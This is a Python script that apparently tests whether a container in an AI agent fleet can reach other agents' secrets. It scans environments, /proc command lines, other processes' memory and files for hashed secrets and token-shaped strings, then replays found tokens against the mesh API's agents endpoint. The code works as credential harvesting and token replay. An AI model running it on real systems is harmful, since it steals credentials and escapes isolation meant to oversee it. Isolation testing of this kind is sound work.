# Looks for secrets in environments and files of this container: for values known by their SHA-256 and length, and
# for anything of the shape of a door token, which is then tried on the mesh's API.
import hashlib, http.client, json, os, re, sys
from urllib.parse import urlsplit

FILE_MAX_BYTES = 4 * 1024 * 1024
FILES_MAX = 20000
MEMORY_MAX_BYTES = 64 * 1024 * 1024
# Of all processes together: without a wall they are those of the whole machine, and the fleet's own come first.
MEMORIES_MAX_BYTES = 8 * MEMORY_MAX_BYTES
CANDIDATES_MAX = 100
wanted = json.loads(sys.argv[1])  # [{"name", "length", "sha256"}]
folders = sys.argv[2:]
# Parts of the image that every agent of it has: no token that was made later is in there, but much base64.
PUBLIC = ("/etc/ssl/", "/etc/apt/", "/var/lib/dpkg/")
by_length = {}
for secret in wanted:
    by_length.setdefault(secret["length"], []).append(secret)
TOKEN_LENGTH = 43
# Whole words only, and none that is shorter than all that is looked for: found among marks, eight times as fast as by
# an expression, since memory is long.
MARKS = bytes(re.match(rb"[A-Za-z0-9_.~-]", bytes([code])) is not None for code in range(256))
LONG_ENOUGH = b"\1" * min(TOKEN_LENGTH, *by_length)

found = {}
token_shaped = {}
counts = {"files": 0, "processes": 0, "unreadable": 0, "memories": 0}
memory_left = MEMORIES_MAX_BYTES


def words(data):
    marks = data.translate(MARKS)
    start = marks.find(LONG_ENOUGH)
    while start != -1:
        end = marks.find(b"\0", start)
        yield data[start:] if end == -1 else data[start:end]
        start = -1 if end == -1 else marks.find(LONG_ENOUGH, end)


def look(data, place):
    for text in words(data):
        if not place.startswith(PUBLIC) and len(text) == TOKEN_LENGTH and b"." not in text and b"~" not in text:
            token_shaped.setdefault(text, place)
        for secret in by_length.get(len(text), ()):
            if hashlib.sha256(text).hexdigest() == secret["sha256"]:
                found.setdefault(secret["name"], place)


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(FILE_MAX_BYTES)
    except OSError:
        counts["unreadable"] += 1
        return b""


def look_into_memory(pid):
    """The agent's process holds the door token; whoever can read its memory has it."""
    global memory_left
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            regions = [line.split()[0] for line in maps if " rw" in line]
            left = min(MEMORY_MAX_BYTES, memory_left)
            for region in regions:
                start, end = (int(edge, 16) for edge in region.split("-"))
                size = min(end - start, left)
                if size <= 0:
                    break
                memory.seek(start)
                look(memory.read(size), f"memory of process {pid}")
                left -= size
                memory_left -= size
            counts["memories"] += 1
    except (OSError, ValueError, OverflowError):
        pass


look(b"\0".join(k + b"=" + v for k, v in os.environb.items()), "own environment")
# The youngest first: what the fleet started is younger than the machine's own.
for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int, reverse=True):
    for part in ("environ", "cmdline"):
        # Our own command line names what is looked for by its hash only.
        look(read(f"/proc/{pid}/{part}"), f"/proc/{pid}/{part}")
    counts["processes"] += 1
    # Where nothing is left to look for, as without a wall, the other processes of the machine are nobody's concern.
    if memory_left > 0 and int(pid) != os.getpid() and len(found) < len({secret["name"] for secret in wanted}):
        look_into_memory(pid)
for folder in folders:
    for base, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(base, name)
            if counts["files"] >= FILES_MAX or not os.path.isfile(path):
                continue
            counts["files"] += 1
            look(read(path), path)


def status(token):
    # The agents' list is for the agent itself; the token of programs opens the model surface alone.
    url = urlsplit(os.environ["OPENAI_BASE_URL"])
    api = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    try:
        api.request("GET", "/mesh/agents", headers={"authorization": "Bearer " + token})
        return api.getresponse().status
    except (OSError, http.client.HTTPException) as error:
        return str(error)
    finally:
        api.close()


program_token = os.environ.get("OPENAI_API_KEY", "").encode()
candidates = [t for t in token_shaped if t != program_token][:CANDIDATES_MAX]
opened = [token_shaped[t] for t in candidates if status(t.decode()) == 200]
print("RESULT " + json.dumps({
    **counts, "found": found, "token_shaped": len(candidates), "opened": opened,
    "program_token_status": status(program_token.decode()),
}))
